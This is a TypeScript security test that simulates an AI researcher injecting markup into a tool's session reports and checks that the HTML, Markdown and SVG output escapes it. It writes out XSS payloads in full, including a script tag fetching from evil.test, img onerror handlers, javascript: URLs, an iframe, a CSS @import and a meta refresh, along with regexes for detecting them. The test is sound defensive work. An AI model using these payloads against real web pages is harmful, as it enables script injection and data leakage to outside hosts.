/**
 * A Claude researcher (the Messages-API test double) writes markup into everything a session report
 * shows: its proposal's title and hypothesis (`<script>`, `</svg><img onerror>`, Markdown links and
 * images, `javascript:` URLs, an iframe) and its turn summary, which the journal keeps. The session runs
 * (synthetic trainer; the idea is planted to win, so the text also reaches the conclusion, the finding
 * and the charts), then `flywheel report` writes the report as a user would. The attack succeeds if
 * any file carries a live tag, handler or external reference, or if, in Chromium, a script runs, a
 * dialog opens, a request leaves the page or an injected element reaches the DOM.
 */
import { spawnSync } from 'node:child_process';
import { existsSync, readFileSync } from 'node:fs';
import { join } from 'node:path';
import { pathToFileURL } from 'node:url';
import { ClaudeProvider } from '../../../src/researchers/claude.ts';
import { LlmResearcher } from '../../../src/researchers/llm-researcher.ts';
import { CHROMIUM, launchChromium } from '../../helpers/chromium.ts';
import { makeSession, synthConfig, tempHome, tempStore } from '../../helpers/research-fixtures.ts';
import { writeTinyDataset } from '../../fixtures/tiny-dataset.ts';
import { claude } from '../../llm-double/replies.ts';
import { startLlmDouble } from '../../llm-double/server.ts';
import type { Attack } from '../attack.ts';

const BIN = join(import.meta.dirname, '..', '..', '..', 'bin', 'flywheel.js');

const TITLE = `<script>fetch('//evil.test/t')</script>LR [x](javascript:alert(1))`;
const HYPOTHESIS = [
  `</svg><img src=//evil.test/x.png onerror=alert(1)> lower LR helps.`,
  `[click me](javascript:alert(2)) ![pixel](http://evil.test/p.png) <iframe src=https://evil.test/f></iframe>`,
  `<a href="javascript:alert(3)">docs</a> &#106;avascript:alert(4) <svg onload=alert(5)>`,
].join('\n');
const SUMMARY = `<style>@import url(//evil.test/c.css)</style><object data=//evil.test/o></object> see https://evil.test/r and www.evil.test <meta http-equiv=refresh content="0;url=//evil.test">`;

/** Live markup in a rendered file: `<` in text is escaped, so any `<` left opens a tag we wrote. */
function liveMarkup(text: string): string[] {
  const found: string[] = [];
  const tag =
    /<(script|img|iframe|object|embed|link|a|foreignObject|image|use|meta http-equiv="refresh)[\s>/]/gi;
  for (const m of text.matchAll(tag)) found.push(m[0]);
  for (const m of text.matchAll(/<[a-z][^>]*\s(on\w+|src|href|xlink:href|data)\s*=[^>]*>/gi))
    found.push(m[0]);
  // CSS that loads: only inside a <style> element or a style attribute
  const css = [...text.matchAll(/<style>([\s\S]*?)<\/style>|\sstyle="([^"]*)"/g)].map((m) => m[1] ?? m[2]);
  for (const c of css) for (const m of c.matchAll(/url\(|@import|expression\(/gi)) found.push(`css ${m[0]}`);
  return found;
}

/** Live Markdown: a link or image whose target is not one of the report's own SVG files, raw HTML tags. */
function liveMarkdown(md: string): string[] {
  const found: string[] = [];
  // a `](` whose `]` is not backslash-escaped (an even run of backslashes before it)
  for (const m of md.matchAll(/(?:^|[^\\])(?:\\\\)*\]\(([^)]*)\)/g))
    if (!/^[a-z0-9-]+\.svg$/.test(m[1])) found.push(m[0]);
  // raw HTML, and bare URLs GFM would autolink (text like "javascript:alert" outside a link is inert)
  for (const m of md.matchAll(/<\/?[a-z][^>]*>|https?:\/\/|www\.evil/gi)) found.push(m[0]);
  return found;
}

export const attacks: Attack[] = [
  {
    id: 'report-injection',
    title:
      'a Claude researcher puts <script>, </svg><img onerror>, Markdown links and javascript: URLs in its proposal and journal text, to run in the session report',
    timeoutMs: 240_000,
    async run() {
      const home = tempHome('fw-report-attack-');
      const double = await startLlmDouble();
      const store = await tempStore(home);
      const saved = process.env.FLYWHEEL_SYNTH_EFFECTS;
      try {
        const dataDir = join(home, 'tiny-data');
        writeTinyDataset(dataDir, { trainTokens: 20_000, valTokens: 2_000 });
        const base = synthConfig([`data.dir=${JSON.stringify(dataDir)}`]);
        process.env.FLYWHEEL_SYNTH_EFFECTS = JSON.stringify({ 'optim.lr<': [base.optim.lr * 0.75, -0.05] });
        double.enqueue(
          'anthropic',
          claude.toolUse(
            [
              {
                name: 'propose_config_experiment',
                input: {
                  title: TITLE,
                  hypothesis: HYPOTHESIS,
                  set: { 'optim.lr': base.optim.lr / 2 },
                  expectedEffect: -0.03,
                },
              },
              { name: 'finish_turn', input: { summary: SUMMARY } },
            ],
            SUMMARY,
          ),
        );
        const researcher = new LlmResearcher({
          provider: new ClaudeProvider({
            baseURL: double.url,
            apiKey: 'test-key',
            maxRetries: 0,
            model: 'claude-sonnet-5-5',
          }),
          store,
          retry: { attempts: 2, baseMs: 10, maxMs: 50 },
        });
        const { session, executor } = await makeSession({
          store,
          researcher,
          base,
          spec: { maxProposals: 1 },
        });
        await session.run();
        await executor.close();
        const p = session.state.proposals.find((x) => x.title === TITLE);
        if (!p)
          return {
            succeeded: false,
            detail: 'the engine refused the proposal, so nothing of it reached a report',
          };

        const out = join(home, 'report');
        const cli = spawnSync(process.execPath, [BIN, 'report', session.id, '--out', out, '--json'], {
          env: { ...process.env, FLYWHEEL_HOME: home },
          encoding: 'utf8',
          timeout: 120_000,
        });
        if (cli.status !== 0)
          return { succeeded: false, detail: `flywheel report failed: ${cli.stderr.trim()}` };
        const files = JSON.parse(cli.stdout) as { html: string; markdown: string; svgs: string[] };
        const html = readFileSync(files.html, 'utf8');
        if (!html.includes('&lt;script&gt;fetch('))
          return { succeeded: false, detail: 'the title never reached the report' };
        const live = [
          ...liveMarkup(html).map((x) => `report.html: ${x}`),
          ...files.svgs.flatMap((f) => liveMarkup(readFileSync(f, 'utf8')).map((x) => `${f}: ${x}`)),
          ...liveMarkdown(readFileSync(files.markdown, 'utf8')).map((x) => `report.md: ${x}`),
        ];
        if (live.length)
          return { succeeded: true, detail: `live markup in the report: ${live.slice(0, 5).join(' | ')}` };

        if (!existsSync(CHROMIUM))
          return {
            succeeded: false,
            detail: `no live markup in report.html, report.md or ${files.svgs.length} SVGs (Chromium absent: not opened)`,
          };
        const browser = await launchChromium();
        try {
          const page = await browser.newPage();
          const url = pathToFileURL(files.html).href;
          const events: string[] = [];
          page.on('request', (q) => q.url() !== url && events.push(`request ${q.url()}`));
          page.on('dialog', (d) => {
            events.push(`dialog ${d.message()}`);
            void d.dismiss();
          });
          page.on('console', (m) => m.type() === 'error' && events.push(`console ${m.text()}`));
          page.on('pageerror', (e) => events.push(`pageerror ${e.message}`));
          await page.goto(url, { waitUntil: 'load' });
          await page.waitForTimeout(300);
          const dom = await page.evaluate(() => {
            const bad = document.querySelectorAll(
              'script, iframe, img, object, embed, link, a, foreignObject, image, use',
            );
            const handlers = [...document.querySelectorAll('*')].filter((el) =>
              [...el.attributes].some((a) => /^on/i.test(a.name) || /^(src|href|xlink:href)$/i.test(a.name)),
            );
            return {
              bad: bad.length,
              handlers: handlers.length,
              styles: document.querySelectorAll('style').length,
              text: document.body.innerText.includes("<script>fetch('//evil.test/t')</script>"),
            };
          });
          if (dom.bad || dom.handlers || dom.styles !== 1)
            events.push(`injected DOM: ${JSON.stringify(dom)}`);
          if (!dom.text) events.push('the title is not shown as text');
          return events.length
            ? { succeeded: true, detail: events.slice(0, 5).join(' | ') }
            : {
                succeeded: false,
                detail: `the report shows the text as text: no script ran, no request left, no injected element (${files.svgs.length} SVGs checked)`,
              };
        } finally {
          await browser.close();
        }
      } finally {
        if (saved === undefined) delete process.env.FLYWHEEL_SYNTH_EFFECTS;
        else process.env.FLYWHEEL_SYNTH_EFFECTS = saved;
        await double.close();
        await store.close();
      }
    },
  },
];
